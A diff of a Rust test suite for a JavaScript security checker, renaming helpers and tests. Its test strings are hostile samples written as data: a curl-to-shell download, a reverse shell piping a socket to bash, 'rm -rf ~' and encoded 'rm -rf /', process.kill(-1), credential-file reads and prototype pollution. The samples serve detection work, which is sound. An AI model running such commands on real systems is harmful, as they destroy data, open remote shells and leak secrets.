@@ -1,4 +1,4 @@
-//! Each rule with programs in which it holds, and with ordinary ones in which it does not.
+//! Programs that each rule reports, and ordinary ones that it does not.
 #![allow(clippy::too_many_lines, reason = "tables of examples")]
 
 mod hostile;
@@ -7,13 +7,13 @@ use crate::rule::Checked;
 use ringfence_types::Language;
 use ringfence_types::Severity::{self, Error, Info, Warning};
 
-fn look(code: &str, dialect: Language) -> Checked {
+fn check(code: &str, dialect: Language) -> Checked {
     super::check(code, dialect, super::Setting::Program)
 }
 
-fn told_in(code: &str, dialect: Language) -> Vec<(&'static str, Severity)> {
-    let checked = look(code, dialect);
-    let mut told: Vec<_> = checked
+fn findings_in(code: &str, dialect: Language) -> Vec<(&'static str, Severity)> {
+    let checked = check(code, dialect);
+    let mut findings: Vec<_> = checked
         .findings
         .iter()
         .map(|finding| {
@@ -23,41 +23,41 @@ fn told_in(code: &str, dialect: Language) -> Vec<(&'static str, Severity)> {
             )
         })
         .collect();
-    told.sort();
-    told.dedup();
-    told
+    findings.sort();
+    findings.dedup();
+    findings
 }
 
-/// The rule holds with this severity, whatever else is told.
+/// Asserts that the rule is reported with this severity, among other findings.
 #[track_caller]
-fn found(rule: &str, severity: Severity, codes: &[&str]) {
+fn assert_found(rule: &str, severity: Severity, codes: &[&str]) {
     for code in codes {
-        let told = told_in(code, Language::Node);
-        assert!(told.contains(&(rule, severity)), "{code}\n{told:?}");
+        let findings = findings_in(code, Language::Node);
+        assert!(findings.contains(&(rule, severity)), "{code}\n{findings:?}");
     }
 }
 
-/// Nothing is worse than this, in either language.
+/// Asserts that no finding is more severe than this, in either language.
 #[track_caller]
-fn at_most(severity: Severity, codes: &[&str]) {
-    at_most_in(Language::Node, severity, codes);
-    at_most_in(Language::Typescript, severity, codes);
+fn assert_at_most(severity: Severity, codes: &[&str]) {
+    assert_at_most_in(Language::Node, severity, codes);
+    assert_at_most_in(Language::Typescript, severity, codes);
 }
 
-/// The same of one of them: what is no module is not TypeScript.
+/// Asserts the same for one language: code that is not a module is not TypeScript.
 #[track_caller]
-fn at_most_in(dialect: Language, severity: Severity, codes: &[&str]) {
+fn assert_at_most_in(dialect: Language, severity: Severity, codes: &[&str]) {
     for code in codes {
-        let told = told_in(code, dialect);
-        let is_more = told.iter().any(|(_, found)| *found > severity);
-        assert!(!is_more, "{dialect:?}: {code}\n{told:?}");
+        let findings = findings_in(code, dialect);
+        let is_more = findings.iter().any(|(_, found)| *found > severity);
+        assert!(!is_more, "{dialect:?}: {code}\n{findings:?}");
     }
 }
 
 #[rustfmt::skip]
 #[test]
-fn texts_that_are_run_are_found_by_every_way_to_them() {
-    found(
+fn dynamic_execution_is_found_through_aliases_and_computed_names() {
+    assert_found(
         "dynamic_execution",
         Warning,
         &[
@@ -89,7 +89,7 @@ fn texts_that_are_run_are_found_by_every_way_to_them() {
             "new module.constructor()._compile('x', '')", "import('data:text/javascript,x')", "f(eval)", "x.y = eval",
         ],
     );
-    at_most(
+    assert_at_most(
         Info,
         &[
             "{ let x = {eval() {}}; x.eval('x') }", "import {evaluate} from 'mathjs'; evaluate('1+1')",
@@ -107,8 +107,8 @@ fn texts_that_are_run_are_found_by_every_way_to_them() {
 
 #[rustfmt::skip]
 #[test]
-fn programs_that_are_started_are_found() {
-    found(
+fn started_programs_are_found() {
+    assert_found(
         "child_process",
         Warning,
         &[
@@ -137,14 +137,14 @@ fn programs_that_are_started_are_found() {
             "const {child_process: {exec}} = {child_process: require('child_process')}; exec('x')",
         ],
     );
-    found(
+    assert_found(
         "child_process",
         Info,
         &[
             "require('child_process')", "import 'child_process'", "import {execa} from 'execa'",
         ],
     );
-    found(
+    assert_found(
         "shell.remove_root",
         Error,
         &[
@@ -152,12 +152,12 @@ fn programs_that_are_started_are_found() {
             "const {execFileSync} = require('child_process'); execFileSync('sh', ['-c', 'rm -rf ~'])",
         ],
     );
-    found(
+    assert_found(
         "shell.download_and_run",
         Warning,
         &["require('child_process').exec('curl x | sh')"],
     );
-    found(
+    assert_found(
         "reverse_shell",
         Error,
         &[
@@ -166,12 +166,12 @@ fn programs_that_are_started_are_found() {
             "const sh = require('child_process').exec('/bin/bash'); require('net').connect(1, 'x').pipe(sh.stdin)",
         ],
     );
-    found(
+    assert_found(
         "kill_all",
         Error,
         &["process.kill(-1)", "process.kill(-1, 'SIGKILL')"],
     );
-    at_most(
+    assert_at_most(
         Info,
         &[
             "function require(x) { return {exec() {}} } require('child_process').exec('ls')",
@@ -184,22 +184,22 @@ fn programs_that_are_started_are_found() {
 
 #[rustfmt::skip]
 #[test]
-fn modules_that_are_chosen_at_run_time_and_native_code_are_found() {
-    found(
+fn dynamic_modules_and_native_code_are_found() {
+    assert_found(
         "dynamic_require",
         Warning,
         &[
             "require(x)", "import(x)", "require(process.argv[2])", "module.require(x)", "require(f())",
         ],
     );
-    found(
+    assert_found(
         "dynamic_require",
         Info,
         &[
             "require('./locale/' + name)", "import(`./pages/${x}.js`)", "require(`../${x}`)",
         ],
     );
-    found(
+    assert_found(
         "native",
         Warning,
         &[
@@ -208,17 +208,17 @@ fn modules_that_are_chosen_at_run_time_and_native_code_are_found() {
             "process[x]('fs')", "const {binding} = process; binding('fs')",
         ],
     );
-    found(
+    assert_found(
         "worker_threads",
         Info,
         &["import {Worker} from 'worker_threads'", "require('cluster')"],
     );
-    found(
+    assert_found(
         "inspector",
         Warning,
         &["require('inspector')", "import i from 'node:inspector'"],
     );
-    found(
+    assert_found(
         "network",
         Info,
         &[
@@ -228,8 +228,8 @@ fn modules_that_are_chosen_at_run_time_and_native_code_are_found() {
             "new WebSocket('wss://x.y')",
         ],
     );
-    found("exit", Info, &["process.exit(1)", "process.abort()"]);
-    at_most(
+    assert_found("exit", Info, &["process.exit(1)", "process.abort()"]);
+    assert_at_most(
         Info,
         &[
             "require('express'); require('./lib'); require('../x.json')",
@@ -243,8 +243,8 @@ fn modules_that_are_chosen_at_run_time_and_native_code_are_found() {
 
 #[rustfmt::skip]
 #[test]
-fn files_secrets_prototypes_and_hidden_texts_are_guarded() {
-    found(
+fn deletion_credential_prototype_and_obfuscation_rules_hold() {
+    assert_found(
         "file_deletion",
         Info,
         &[
@@ -254,7 +254,7 @@ fn files_secrets_prototypes_and_hidden_texts_are_guarded() {
             "const path = require('path'); require('fs').rmSync(path.join(__dirname, 'dist'), {recursive: true})",
         ],
     );
-    found(
+    assert_found(
         "file_deletion",
         Warning,
         &[
@@ -262,7 +262,7 @@ fn files_secrets_prototypes_and_hidden_texts_are_guarded() {
             "require('rimraf')(x)", "const fs = require('fs'); const o = {recursive: true}; fs.rmSync('../x', o)",
         ],
     );
-    found(
+    assert_found(
         "file_deletion",
         Error,
         &[
@@ -273,7 +273,7 @@ fn files_secrets_prototypes_and_hidden_texts_are_guarded() {
             "require('fs').rmSync('../..', {recursive: true})",
         ],
     );
-    found(
+    assert_found(
         "credential_path",
         Warning,
         &[
@@ -283,7 +283,7 @@ fn files_secrets_prototypes_and_hidden_texts_are_guarded() {
             "open('/proc/self/environ')",
         ],
     );
-    found(
+    assert_found(
         "prototype_pollution",
         Warning,
         &[
@@ -292,7 +292,7 @@ fn files_secrets_prototypes_and_hidden_texts_are_guarded() {
             "JSON.parse('{\"__proto__\": {\"x\": 1}}')", "Object.defineProperty(x.__proto__, 'y', {})",
         ],
     );
-    found(
+    assert_found(
         "obfuscation",
         Warning,
         &[
@@ -302,7 +302,7 @@ fn files_secrets_prototypes_and_hidden_texts_are_guarded() {
             "var _0x1a2b=['a'],_0x3c4d=1,_0x5e6f=2,_0x7a8b=3,_0x9c0d=4,_0x1e2f=5;",
         ],
     );
-    at_most(
+    assert_at_most(
         Info,
         &[
             "fs.readFileSync('package.json')", "const o = {__proto__: null}; Object.create(null)",
@@ -318,7 +318,7 @@ fn files_secrets_prototypes_and_hidden_texts_are_guarded() {
 #[rustfmt::skip]
 #[test]
 fn ordinary_programs_give_no_warning() {
-    at_most(
+    assert_at_most(
         Info,
         &[
             "#!/usr/bin/env node\n'use strict';\nconst fs = require('fs');\nmodule.exports = function f(a, b = 1, ...c) { return a?.b ?? c };",
@@ -335,7 +335,7 @@ fn ordinary_programs_give_no_warning() {
             "const n = 1_000n + 0xFFn; 0b11; 0o17; .5e-3; import.meta.url;",
         ],
     );
-    at_most_in(
+    assert_at_most_in(
         Language::Typescript,
         Info,
         &[
@@ -356,7 +356,7 @@ fn ordinary_programs_give_no_warning() {
 
 #[rustfmt::skip]
 #[test]
-fn a_broken_program_is_an_error_at_its_place() {
+fn syntax_error_is_reported_at_its_position() {
     for (code, place) in [
         ("let a = ;", 8),
         ("f(1", 3),
@@ -369,7 +369,7 @@ fn a_broken_program_is_an_error_at_its_place() {
         ("for (;;", 7),
         ("import {a from 'b'", 10),
     ] {
-        let checked = look(code, Language::Node);
+        let checked = check(code, Language::Node);
         let finding = checked
             .findings
             .iter()
@@ -387,28 +387,28 @@ fn a_broken_program_is_an_error_at_its_place() {
         "let a: number = ;", "interface {", "enum A { B = }", "type A = ", "const a: = 1",
     ] {
         assert!(
-            told_in(code, Language::Typescript).contains(&("syntax", Error)),
+            findings_in(code, Language::Typescript).contains(&("syntax", Error)),
             "{code}"
         );
     }
 }
 
 #[test]
-fn rules_see_what_stands_around_what_the_language_forbids() {
-    let told = told_in(
+fn rules_apply_to_code_around_an_early_error() {
+    let findings = findings_in(
         "let a; let a;\nrequire('child_process').exec('ls');\n",
         Language::Node,
     );
     assert!(
-        told.contains(&("syntax", Error)) && told.contains(&("child_process", Warning)),
-        "{told:?}"
+        findings.contains(&("syntax", Error)) && findings.contains(&("child_process", Warning)),
+        "{findings:?}"
     );
 }
 
 #[rustfmt::skip]
 #[test]
-fn counts_are_those_of_the_program() {
-    let checked = look(
+fn analysis_counts_match_the_program() {
+    let checked = check(
         "import fs from 'node:fs';\nimport {a} from './a.js';\nexport {b} from './b.js';\nconst c = require('c');\nawait import('d');\n\
          function f() {}\nconst g = () => {};\nclass A { m() {} get x() { return 1 } }\nconst B = class {};\n\
          if (a) {} else if (b) {}\nfor (const x of y) {}\nwhile (a && b || c) {}\nswitch (x) { case 1: case 2: default: }\n\
@@ -425,8 +425,8 @@ fn counts_are_those_of_the_program() {
 
 #[rustfmt::skip]
 #[test]
-fn names_mean_the_declaration_that_is_in_force() {
-    found(
+fn names_resolve_to_the_declaration_in_scope() {
+    assert_found(
         "dynamic_execution",
         Warning,
         &[
@@ -437,7 +437,7 @@ fn names_mean_the_declaration_that_is_in_force() {
             "const e = f => f, g = eval; e(g)('x'); g('y')",
         ],
     );
-    at_most(
+    assert_at_most(
         Info,
         &[
             "import eval_ from 'x'; eval_('x')", "function f({eval: e}) { e('x') }",
@@ -448,8 +448,8 @@ fn names_mean_the_declaration_that_is_in_force() {
 
 #[rustfmt::skip]
 #[test]
-fn prototypes_of_the_language_are_shared_by_all() {
-    found(
+fn changes_to_builtin_prototypes_are_found() {
+    assert_found(
         "prototype_pollution",
         Warning,
         &[
@@ -460,7 +460,7 @@ fn prototypes_of_the_language_are_shared_by_all() {
             "const proto = Array.prototype; proto.last = f", "globalThis.Array.prototype.x = 1",
         ],
     );
-    at_most(
+    assert_at_most(
         Info,
         &[
             "function A() {} A.prototype.x = 1", "class Array {} Array.prototype.x = 1", "Mine.prototype.x = 1",
@@ -472,7 +472,7 @@ fn prototypes_of_the_language_are_shared_by_all() {
 
 #[rustfmt::skip]
 #[test]
-fn what_is_computed_from_constants_is_refused() {
+fn strings_computed_from_constants_are_errors() {
     for text in [
         "atob('cm0gLXJmIC8=')", "Buffer.from('726d202d7266202f', 'hex').toString()",
         "String.fromCharCode(114, 109, 32, 45, 114, 102, 32, 47)", "String.fromCharCode(...[114, 109])",
@@ -483,23 +483,23 @@ fn what_is_computed_from_constants_is_refused() {
         let code = format!(
             "const cp = require('child_process'); const c = {text}; cp.execSync(c); cp.execSync({text})"
         );
-        found("obfuscation", Error, &[&code]);
+        assert_found("obfuscation", Error, &[&code]);
         let code = format!("require('fs').rmSync({text}, {{recursive: true}})");
-        found("file_deletion", Error, &[&code]);
+        assert_found("file_deletion", Error, &[&code]);
     }
     for code in [
         "require('fs').rmSync('dist/'.concat(name), {recursive: true})",
         "require('child_process').execSync(command.trim())",
         "require('child_process').execSync('cat', {input: Buffer.from('x')})",
     ] {
-        at_most_in(Language::Node, Warning, &[code]);
+        assert_at_most_in(Language::Node, Warning, &[code]);
     }
 }
 
 #[rustfmt::skip]
 #[test]
 fn findings_are_sentences() {
-    let what = |code: &str| look(code, Language::Node).findings[0].what.clone();
+    let what = |code: &str| check(code, Language::Node).findings[0].what.clone();
     assert_eq!(what("fetch(x)"), "`fetch` speaks to other hosts");
     assert_eq!(what("process.exit(1)"), "`process.exit` ends the program");
     for code in [
@@ -507,7 +507,7 @@ fn findings_are_sentences() {
         "require('./' + x)", "new WebSocket(x)", "require('http').get(x)",
         "const {Worker} = require('worker_threads'); new Worker('./a.js')",
     ] {
-        for finding in look(code, Language::Node).findings {
+        for finding in check(code, Language::Node).findings {
             assert!(
                 finding.what.contains(' ') && !finding.what.ends_with(['`', '.'])
                     || finding.what.contains("loads `"),
@@ -520,8 +520,8 @@ fn findings_are_sentences() {
 
 #[rustfmt::skip]
 #[test]
-fn names_that_strict_code_cannot_have_are_names_in_a_script() {
-    at_most_in(
+fn names_reserved_in_strict_mode_are_accepted_in_scripts() {
+    assert_at_most_in(
         Language::Node,
         Info,
         &[
@@ -533,9 +533,9 @@ fn names_that_strict_code_cannot_have_are_names_in_a_script() {
 
 #[rustfmt::skip]
 #[test]
-fn ends_of_lines_that_hide_code_are_told() {
-    let is_told = |code: &str| {
-        let found = look(code, Language::Node).findings;
+fn unusual_line_ends_are_reported() {
+    let is_reported = |code: &str| {
+        let found = check(code, Language::Node).findings;
         found
             .iter()
             .any(|finding| finding.rule.id == "javascript.line_end")
@@ -544,9 +544,9 @@ fn ends_of_lines_that_hide_code_are_told() {
         "#!x\rconsole.log(1)", "#!x\u{2028}console.log(1)", "<!-- c\rconsole.log(1)",
         "x = 1\n/* \r */ --> y\rconsole.log(1)", "// c\u{2029}console.log(1)",
     ] {
-        assert!(is_told(code), "{code:?}");
+        assert!(is_reported(code), "{code:?}");
     }
     for code in ["const a = 1;\r\nconst b = 2;\r\n", "const a = '\\u2028\\r';\n"] {
-        assert!(!is_told(code), "{code:?}");
+        assert!(!is_reported(code), "{code:?}");
     }
 }
